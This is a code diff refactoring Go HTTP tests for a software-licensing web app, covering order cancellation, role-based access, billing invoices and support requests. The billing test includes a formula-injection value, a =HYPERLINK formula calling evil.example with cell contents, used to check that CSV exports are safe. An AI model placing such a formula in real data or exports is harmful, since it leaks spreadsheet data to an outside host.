@@ -8,7 +8,6 @@ import (
 	"image"
 	"image/color"
 	"image/png"
-	"mime/multipart"
 	"net/http"
 	"net/url"
 	"regexp"
@@ -24,35 +23,6 @@ import (
 	"github.com/PuerkitoBio/goquery"
 )
 
-// cnActor is a demo user as a service actor.
-func cnActor(t *testing.T, env *apptest.Env, email string) desk.Actor {
-	t.Helper()
-	u, _, err := env.App.Store.FindUserByEmail(context.Background(), email)
-	if err != nil {
-		t.Fatal(err)
-	}
-	return desk.Actor{User: u, IP: "127.0.0.1"}
-}
-
-var cnSeq int
-
-// cnPlace places a fresh order as the sales agent and returns it (its lines carry their
-// entitlement IDs).
-func cnPlace(t *testing.T, env *apptest.Env, customerID string, lines ...desk.CartLine) desk.Order {
-	t.Helper()
-	cnSeq++
-	o, created, err := env.App.Service.PlaceOrder(context.Background(), cnActor(t, env, swUsers["sales"]), customerID, fmt.Sprintf("cn-%d", cnSeq), lines)
-	if err != nil || !created {
-		t.Fatalf("place order: %v %v", created, err)
-	}
-	return o
-}
-
-func cnLine(t *testing.T, match, term string, qty int) desk.CartLine {
-	t.Helper()
-	return desk.CartLine{OfferID: demoOffer(t, match, term), Quantity: qty, Term: term}
-}
-
 // cnBase is the path of a purchase on the Software tab.
 func cnBase(customerID, entID string) string {
 	return "/customers/" + customerID + "/software/" + entID
@@ -61,7 +31,7 @@ func cnBase(customerID, entID string) string {
 // cnState reads a line's status and its number of cancellations.
 func cnState(t *testing.T, env *apptest.Env, customerID, orderID string, line int) (string, int) {
 	t.Helper()
-	_, o, err := env.App.Service.Order(context.Background(), cnActor(t, env, swUsers["global"]), customerID, orderID)
+	_, o, err := env.App.Service.Order(context.Background(), env.Actor(t, apptest.GlobalAdmin), customerID, orderID)
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -91,14 +61,14 @@ func cnText(s *goquery.Selection) string { return strings.Join(strings.Fields(s.
 // (R19), and a second submission refused (R15).
 func TestCancelDialogHTTP(t *testing.T) {
 	env := apptest.Start(t)
-	c := env.SignIn(t, swUsers["admin"])
+	c := env.SignIn(t, apptest.AdminAgent)
 	// A fresh one-year SQL Server Enterprise subscription: the same product as Contoso's
 	// 31-day-old three-year order, so the dialog lists both.
-	fresh := cnPlace(t, env, apptest.ContosoID, cnLine(t, "SQL Server Enterprise - 2 Core License Pack - 1 year", desk.TermP1Y, 1))
+	fresh := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "SQL Server Enterprise - 2 Core License Pack - 1 year", desk.TermP1Y, 1))
 	ent := fresh.Lines[0].EntitlementID
 	old, _ := swPurchase(t, env, apptest.ContosoID, "SQL Server Enterprise - 2 Core License Pack - 3 year")
 	var oldOrder string
-	_, items, _ := env.App.Service.Software(context.Background(), cnActor(t, env, swUsers["admin"]), apptest.ContosoID)
+	_, items, _ := env.App.Service.Software(context.Background(), env.Actor(t, apptest.AdminAgent), apptest.ContosoID)
 	var wantOrders []string
 	for _, it := range items {
 		if it.ProductID == fresh.Lines[0].ProductID {
@@ -231,9 +201,9 @@ func TestCancelRoutesPerRole(t *testing.T) {
 	env := apptest.Start(t)
 	for _, who := range []string{"admin", "global", "sales", "helpdesk", "billing", "referrals", "customer"} {
 		t.Run(who, func(t *testing.T) {
-			o := cnPlace(t, env, apptest.ContosoID, cnLine(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
+			o := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 1))
 			base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)
-			c := env.SignIn(t, swUsers[who])
+			c := env.SignIn(t, apptest.Users[who])
 			get := env.Get(t, c, base+"/cancel", htmx()...)
 			post := env.PostForm(t, c, base+"/cancel", url.Values{"order_id": {o.ID}, "acknowledge": {"yes"}}, htmx()...)
 			if who == "admin" || who == "global" {
@@ -266,8 +236,8 @@ func TestCancelRoutesPerRole(t *testing.T) {
 // customer's tenant ID, the order ID and the amount.
 func TestCancelDialogSupportLink(t *testing.T) {
 	env := apptest.Start(t)
-	c := env.SignIn(t, swUsers["admin"])
-	o := cnPlace(t, env, apptest.ContosoID, cnLine(t, "SQL Server 2022 Enterprise - 2 Core", desk.TermNone, 2))
+	c := env.SignIn(t, apptest.AdminAgent)
+	o := env.PlaceOrder(t, apptest.ContosoID, apptest.Line(t, "SQL Server 2022 Enterprise - 2 Core", desk.TermNone, 2))
 	base := cnBase(apptest.ContosoID, o.Lines[0].EntitlementID)
 	d := doc(t, env.Get(t, c, base+"/cancel", htmx()...).Body)
 	info := testid(d, "cancel-info")
@@ -325,7 +295,7 @@ func TestCancelDialogSupportLink(t *testing.T) {
 func TestBillingHTTP(t *testing.T) {
 	env := apptest.Start(t)
 	for _, who := range []string{"global", "billing", "admin", "sales", "helpdesk", "referrals", "customer"} {
-		c := env.SignIn(t, swUsers[who])
+		c := env.SignIn(t, apptest.Users[who])
 		want := http.StatusForbidden
 		if who == "global" || who == "billing" {
 			want = http.StatusOK
@@ -338,7 +308,7 @@ func TestBillingHTTP(t *testing.T) {
 			}
 		}
 	}
-	b := env.SignIn(t, swUsers["billing"])
+	b := env.SignIn(t, apptest.BillingAdmin)
 	d := doc(t, env.Get(t, b, "/billing").Body)
 	var ids []string
 	testid(d, "invoice-link").Each(func(_ int, s *goquery.Selection) { ids = append(ids, strings.TrimSpace(s.Text())) })
@@ -354,7 +324,7 @@ func TestBillingHTTP(t *testing.T) {
 
 	// A customer whose name a spreadsheet would run as a formula, with a charge and a credit.
 	evil := `=HYPERLINK("http://evil.example/?x="&A1,"Click")`
-	s := env.SignIn(t, swUsers["sales"])
+	s := env.SignIn(t, apptest.SalesAgent)
 	res := env.PostForm(t, s, "/customers", url.Values{"company_name": {evil}, "domain": {"formula.onmicrosoft.com"}, "country": {"US"},
 		"address_line1": {"1 Main St"}, "city": {"Redmond"}, "postal_code": {"98052"}, "first_name": {"Eve"}, "last_name": {"Formula"}, "email": {"eve@formula.example"}})
 	if res.StatusCode != http.StatusSeeOther {
@@ -363,11 +333,11 @@ func TestBillingHTTP(t *testing.T) {
 	custID := strings.TrimPrefix(res.Header.Get("Location"), "/customers/")
 	custID, _, _ = strings.Cut(custID, "?")
 	custID, _, _ = strings.Cut(custID, "/")
-	o := cnPlace(t, env, custID, cnLine(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 3))
+	o := env.PlaceOrder(t, custID, apptest.Line(t, "Windows Server 2022 Standard - 2 Core", desk.TermNone, 3))
 	if o.Currency != "USD" {
 		t.Fatalf("order currency %s", o.Currency)
 	}
-	if _, _, err := env.App.Service.Cancel(context.Background(), cnActor(t, env, swUsers["admin"]), desk.CancelRequest{CustomerID: custID, OrderID: o.ID, Lines: []int{0}}); err != nil {
+	if _, _, err := env.App.Service.Cancel(context.Background(), env.Actor(t, apptest.AdminAgent), desk.CancelRequest{CustomerID: custID, OrderID: o.ID, Lines: []int{0}}); err != nil {
 		t.Fatal(err)
 	}
 
@@ -399,7 +369,7 @@ func TestBillingHTTP(t *testing.T) {
 		if len(rows) < 2 || !slices.Equal(rows[0], header) {
 			t.Fatalf("%s CSV header %v (%d rows)", id, rows[0], len(rows))
 		}
-		_, lines, err := env.App.Service.Invoice(context.Background(), cnActor(t, env, swUsers["billing"]), id)
+		_, lines, err := env.App.Service.Invoice(context.Background(), env.Actor(t, apptest.BillingAdmin), id)
 		if err != nil {
 			t.Fatal(err)
 		}
@@ -472,31 +442,16 @@ type cnFile struct {
 // cnFileSupport posts Report a problem as a browser's multipart form.
 func cnFileSupport(t *testing.T, env *apptest.Env, c *http.Client, fields url.Values, files ...cnFile) *apptest.Response {
 	t.Helper()
-	var buf bytes.Buffer
-	mw := multipart.NewWriter(&buf)
-	for k, vs := range fields {
-		for _, v := range vs {
-			mw.WriteField(k, v)
-		}
-	}
+	var fs []apptest.File
 	for _, f := range files {
-		fw, err := mw.CreateFormFile("files", f.name)
-		if err != nil {
-			t.Fatal(err)
-		}
-		fw.Write(f.data)
+		fs = append(fs, apptest.File{Field: "files", Name: f.name, Data: f.data})
 	}
-	mw.Close()
-	req, _ := http.NewRequest(http.MethodPost, env.URL+"/support", &buf)
-	req.Header.Set("Content-Type", mw.FormDataContentType())
-	req.Header.Set("Origin", env.URL)
-	req.Header.Set("Sec-Fetch-Site", "same-origin")
-	return env.Do(t, c, req)
+	return env.PostMultipart(t, c, "/support", fields, fs...)
 }
 
 func cnSupportCount(t *testing.T, env *apptest.Env) int {
 	t.Helper()
-	reqs, err := env.App.Service.SupportRequests(context.Background(), cnActor(t, env, swUsers["global"]))
+	reqs, err := env.App.Service.SupportRequests(context.Background(), env.Actor(t, apptest.GlobalAdmin))
 	if err != nil {
 		t.Fatal(err)
 	}
@@ -516,7 +471,7 @@ func cnSupportFields() url.Values {
 // listed with its status; a Global admin changes the status.
 func TestSupportRequestsHTTP(t *testing.T) {
 	env := apptest.Start(t)
-	c := env.SignIn(t, swUsers["admin"])
+	c := env.SignIn(t, apptest.AdminAgent)
 
 	// Pre-filled from the query; the contact is the signed-in user.
 	res := env.Get(t, c, "/support/new?problem_type=billing&order_ref=ORD-42&customer_ref="+url.QueryEscape(apptest.ContosoID)+"&requested_amount=100+HUF")
@@ -527,7 +482,7 @@ func TestSupportRequestsHTTP(t *testing.T) {
 	if _, sel := swOptions(d.Find("#problem_type")); sel != "billing" {
 		t.Errorf("problem type %q, want billing", sel)
 	}
-	for id, want := range map[string]string{"order_ref": "ORD-42", "customer_ref": apptest.ContosoID, "requested_amount": "100 HUF", "contact_email": swUsers["admin"]} {
+	for id, want := range map[string]string{"order_ref": "ORD-42", "customer_ref": apptest.ContosoID, "requested_amount": "100 HUF", "contact_email": apptest.AdminAgent} {
 		if v := d.Find("#"+id).AttrOr("value", ""); v != want {
 			t.Errorf("#%s = %q, want %q", id, v, want)
 		}
@@ -655,7 +610,7 @@ func TestSupportRequestsHTTP(t *testing.T) {
 	if res := env.PostForm(t, c, reqPath+"/status", url.Values{"status": {desk.SupportResolved}}); res.StatusCode != http.StatusForbidden {
 		t.Errorf("admin agent changes the status: %d, want 403", res.StatusCode)
 	}
-	g := env.SignIn(t, swUsers["global"])
+	g := env.SignIn(t, apptest.GlobalAdmin)
 	if res := env.PostForm(t, g, reqPath+"/status", url.Values{"status": {"bogus"}}); res.StatusCode != http.StatusBadRequest {
 		t.Errorf("an unknown status: %d, want 400", res.StatusCode)
 	}
@@ -684,7 +639,7 @@ func TestSupportRequestsHTTP(t *testing.T) {
 func TestSupportRoutesPerRole(t *testing.T) {
 	env := apptest.Start(t)
 	for _, who := range []string{"admin", "helpdesk", "global", "sales", "billing", "referrals", "customer"} {
-		c := env.SignIn(t, swUsers[who])
+		c := env.SignIn(t, apptest.Users[who])
 		allowed := who == "admin" || who == "helpdesk" || who == "global"
 		for _, p := range []string{"/support", "/support/new"} {
 			res := env.Get(t, c, p)
